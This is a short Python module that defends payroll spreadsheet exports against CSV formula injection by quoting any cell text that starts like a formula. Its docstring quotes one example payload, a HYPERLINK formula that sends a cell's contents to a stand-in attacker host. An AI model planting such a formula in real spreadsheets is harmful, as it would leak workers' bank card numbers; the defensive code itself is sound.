"""One rule for every cell the office opens in Excel or WPS: stored text never becomes a formula.

A worker types their own name and bank name; project, team names and deduction reasons are typed
by staff. Written unescaped into a CSV or an openpyxl sheet, ``=HYPERLINK("http://evil.cn/?c="&D3,"…")``
is a live formula that can read other rows' card numbers when clicked. OWASP's CSV-injection advice
(https://owasp.org/www-community/attacks/CSV_Injection): prefix a cell that starts with
``= + - @`` tab or carriage return with a single quote, so the spreadsheet shows it as text.
Every export (bank file csv/xlsx, wage sheet, attendance sheets, oversight exports) writes its
rows through ``safe_row``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet must show it: text starting like a formula gets a leading ``'``;
    numbers, dates and empty cells pass unchanged (a number is never a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]
